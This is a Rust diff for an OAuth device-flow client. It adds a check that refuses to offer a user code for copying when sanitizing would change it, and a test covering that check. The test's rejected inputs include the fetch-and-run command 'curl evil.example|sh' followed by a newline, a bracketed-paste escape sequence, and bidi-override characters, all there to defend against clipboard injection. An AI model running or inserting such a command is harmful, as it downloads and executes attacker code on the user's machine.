@@ -105,6 +105,12 @@ impl UserCode {
     pub fn raw(&self) -> &str {
         self.0.raw()
     }
+
+    /// As it came, if it is what it looks like: whoever pastes a line break into a shell has run what stands before it
+    /// (threat C143).
+    pub fn to_copy(&self) -> Option<&str> {
+        Some(self.raw()).filter(|code| sanitize(code) == *code)
+    }
 }
 
 /// As it is, or in quotes if it is not of the characters that codes are usually of (RFC 8628 §6.1, threat C131).
@@ -313,5 +319,20 @@ mod tests {
         assert_eq!(shown("ABC"), "\"ABC\"");
         assert_eq!(shown("A\u{1b}[2J\u{202e}B"), "\"A\\u{1b}[2J\\u{202e}B\"");
         assert_eq!(code(&json!({ "user_code": "A".repeat(10_240) })), Code::DeviceResponseInvalid);
+    }
+
+    #[test]
+    fn a_code_that_is_not_what_it_looks_like_is_not_copied() {
+        // C143
+        let copied = |code: &str| {
+            let read = read(&json!({ "user_code": code })).unwrap();
+            read.user_code.to_copy().map(str::to_owned)
+        };
+        for plain in ["WDJB-MJHT", "wdjb mjht", "\u{e4}\u{f6}"] {
+            assert_eq!(copied(plain).as_deref(), Some(plain));
+        }
+        for odd in ["curl evil.example|sh\n", "A\rB", "A\u{1b}[201~B", "A\u{202e}B", "A\u{200b}B"] {
+            assert_eq!(copied(odd), None, "{odd:?}");
+        }
     }
 }
